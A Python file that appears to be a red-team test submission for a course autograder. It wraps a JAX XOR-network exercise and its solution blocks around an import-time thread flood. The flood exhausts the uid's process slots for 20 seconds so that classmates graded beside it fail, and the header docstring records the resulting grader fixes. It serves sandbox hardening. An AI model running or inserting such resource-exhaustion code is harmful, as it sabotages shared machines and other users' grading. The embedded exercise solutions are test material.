"""hostile: full: starts threads until the kernel refuses, then keeps every process slot of
its uid taken while classmates are graded beside it

attack (red team, round 4): at import, threads with 32 KiB stacks until EAGAIN, then for 20 s
(inside its own import limit) every slot anyone frees is taken again at once; then it lets them
go and is graded as usual. Threads pass the seccomp filter. A grader that is not root set no
RLIMIT_NPROC (only a leased uid had one), so the sandbox shared the grader's per-user count with
the class runner, the other graders, their sandboxes and spares: with a per-user limit of 1000
the classmates graded beside it got 0/100 ("can't start new thread") and under Landlock the
class runner itself died with no gradebook; with none, a run as uid 65534 took 32,283 threads,
nearly the machine's whole pid space. Now a sandbox that shares the judge's uid may add at most
MAX_PROCESSES (512) to what the uid ran at its start (door.tasks_of), and a grader process that
cannot start is one student's grader-error, not the end of the run. That limit is a number on
the uid's one shared count, so a classmate's sandbox started before this one still starved (CI,
as uid 65534 behind Landlock: a classmate restarted after a crash lost every later point); now
sandboxes under the grader's own uid take turns (walls.UidTurn) and none runs beside this one.
"""

import functools

import jax
import jax.numpy as jnp
from jax import lax

# The four XOR cases. The output is 1 exactly when the two inputs differ.
X = jnp.array([[0.0, 0.0], [0.0, 1.0], [1.0, 0.0], [1.0, 1.0]], dtype=jnp.float32)
Y = jnp.array([0.0, 1.0, 1.0, 0.0], dtype=jnp.float32)

# Defaults chosen so that training reproduces XOR for every PRNGKey(i), i < 1000
# (see docs/tutorial.md for the measurement).
SCALE = 0.1
STEP_SIZE = 0.1
EPOCHS = 500


def relu(x):
    """Rectified linear unit, applied elementwise: ``max(0, x)``.

    Args:
        x: a ``jax.Array`` of any shape.

    Returns:
        An array of the same shape and dtype as ``x``: negative entries become
        0, the others pass through unchanged.

    Hint: ``jnp.maximum`` compares elementwise and works under ``jax.jit``.
    Pitfall: a Python ``if x < 0`` cannot decide for a whole array, and under
    ``jax.jit`` the values are not even known yet.
    """
    ### BEGIN SOLUTION
    return jnp.maximum(x, 0.0)
    ### END SOLUTION


def init_params(key, input_dims=2, n_hidden=16, output_dims=1, scale=SCALE):
    """Draw the network's random starting parameters.

    Args:
        key: a PRNG key, e.g. ``jax.random.PRNGKey(0)``.
        input_dims, n_hidden, output_dims: the layer sizes.
        scale: the standard deviation of every parameter.

    Returns:
        ``{"w1": (n_hidden, input_dims), "b1": (n_hidden,),
        "w2": (output_dims, n_hidden), "b2": (output_dims,)}``, all float32,
        each ``scale * jax.random.normal(its_own_key, shape)``, with the keys
        from ``k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)``.

    Pitfall: drawing two arrays from the same key gives correlated numbers
    (the tutorial this kit grew from did that). Split once, one key per array.
    """
    ### BEGIN SOLUTION
    k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)
    return {
        "w1": scale * jax.random.normal(k_w1, (n_hidden, input_dims)),
        "b1": scale * jax.random.normal(k_b1, (n_hidden,)),
        "w2": scale * jax.random.normal(k_w2, (output_dims, n_hidden)),
        "b2": scale * jax.random.normal(k_b2, (output_dims,)),
    }
    ### END SOLUTION


def predict(params, x):
    """The forward pass for one example: ``w2 @ relu(w1 @ x + b1) + b2``.

    Args:
        params: a dict from ``init_params``.
        x: one input of shape ``(input_dims,)``.

    Returns:
        The network's output, shape ``(output_dims,)``.

    Hint: ``@`` (or ``jnp.dot``) multiplies a matrix by a vector; call your
    ``relu``. Pitfall: do not assume 2 inputs, 16 hidden units or 1 output:
    read the sizes from the arrays.
    """
    ### BEGIN SOLUTION
    hidden = relu(params["w1"] @ x + params["b1"])
    return params["w2"] @ hidden + params["b2"]
    ### END SOLUTION


def batched_predict(params, X):
    """``predict`` for every row of ``X`` at once, through ``jax.vmap``.

    Args:
        params: a dict from ``init_params``.
        X: a batch of inputs, shape ``(n, input_dims)``.

    Returns:
        Shape ``(n, output_dims)``: row ``i`` is ``predict(params, X[i])``.

    Hint: ``jax.vmap(predict, in_axes=(None, 0))`` maps over the rows of the
    second argument and shares the first. Pitfall: a Python loop works but
    is not what this exercise asks for.
    """
    ### BEGIN SOLUTION
    return jax.vmap(predict, in_axes=(None, 0))(params, X)
    ### END SOLUTION


def loss(params, x, y):
    """Mean squared error of the prediction for one example.

    Args:
        params: a dict from ``init_params``.
        x: one input, shape ``(input_dims,)``.
        y: its target, shape ``(output_dims,)`` or a scalar.

    Returns:
        A scalar (shape ``()``): ``mean((predict(params, x) - y) ** 2)``.

    Hint: ``jnp.mean``. Pitfall: ``jnp.sum`` is not the mean once there is more
    than one output unit.
    """
    ### BEGIN SOLUTION
    return jnp.mean((predict(params, x) - y) ** 2)
    ### END SOLUTION


def update(params, x, y, step_size=STEP_SIZE):
    """One step of gradient descent on ``loss`` for one example.

    Args:
        params: a dict from ``init_params``; it must not be modified.
        x, y: one example, as for ``loss``.
        step_size: the learning rate.

    Returns:
        A new dict: ``params[k] - step_size * grads[k]`` for every key ``k``,
        where ``grads = jax.grad(loss)(params, x, y)``.

    Hint: ``jax.grad`` differentiates with respect to the first argument and
    returns a dict shaped like ``params``; ``jax.tree.map`` applies a function
    to every leaf. Pitfall: writing into ``params[k]`` changes the caller's
    dict: build a new one.
    """
    ### BEGIN SOLUTION
    grads = jax.grad(loss)(params, x, y)
    return jax.tree.map(lambda p, g: p - step_size * g, params, grads)
    ### END SOLUTION


def train(params, X, Y, epochs=EPOCHS, step_size=STEP_SIZE):
    """Train with per-example gradient descent.

    For each epoch, for each row ``j`` of ``X`` in order:
    ``params = update(params, X[j], Y[j], step_size)``. After each epoch,
    record the mean over all rows of ``loss(params, X[j], Y[j])``.

    Args:
        params: the starting parameters.
        X: inputs, shape ``(n, input_dims)``. Y: targets, shape ``(n,)``.
        epochs: how many passes over the data.
        step_size: the learning rate passed to ``update``.

    Returns:
        ``(params, losses)``: the trained parameters and an array of shape
        ``(epochs,)`` with the mean loss after each epoch.

    Hint: a Python loop over ``update`` is correct but slow; ``jax.lax.scan``
    inside a ``jax.jit`` runs the whole training as one compiled program.
    """
    ### BEGIN SOLUTION
    return _train_compiled(params, X, Y, epochs, step_size)
    ### END SOLUTION


### BEGIN SOLUTION
@functools.partial(jax.jit, static_argnames="epochs")
def _train_compiled(params, X, Y, epochs, step_size):
    """``train`` as one compiled program: a scan over epochs of a scan over rows.

    It lives at module level so that ``jax.jit`` compiles it once per shape and
    reuses it on the next call.
    """

    def one_row(p, xy):
        return update(p, xy[0], xy[1], step_size), None

    def one_epoch(p, _):
        p, _ = lax.scan(one_row, p, (X, Y))
        mean_loss = jnp.mean(jax.vmap(loss, in_axes=(None, 0, 0))(p, X, Y))
        return p, mean_loss

    return lax.scan(one_epoch, params, None, length=epochs)
### END SOLUTION


import _thread
import threading
import time as _time

_CAP = 40000  # never more than this many threads (the kernel's refusal comes first)
_HOLD = 20.0  # seconds the threads are held, inside the import (its limit is 60 s)
_stop = threading.Event()
_started = [0]


def _sleeper():
    _stop.wait(_HOLD + 5)


def _flood():
    threading.stack_size(32768)
    try:
        while _started[0] < _CAP:
            _thread.start_new_thread(_sleeper, ())
            _started[0] += 1
    except Exception as error:  # RuntimeError: can't start new thread (EAGAIN)
        if not _started[1:]:
            _started.append(1)
            print(f"thread_flood: {_started[0]} threads, then {error}", flush=True)
    finally:
        threading.stack_size(0)


# JAX's own CPU client and thread pools first, so that this submission's own calls still run
jax.jit(lambda v: v + 1)(jnp.zeros(3)).block_until_ready()
_flood()
_until = _time.monotonic() + _HOLD
while _time.monotonic() < _until:  # all this uid's process slots held: whatever a classmate's
    _flood()                        # judge or sandbox frees, this takes again at once
    _time.sleep(0.002)
print(f"thread_flood: held {_started[0]} threads in all", flush=True)
_stop.set()  # let them go: this submission's own grading then runs normally
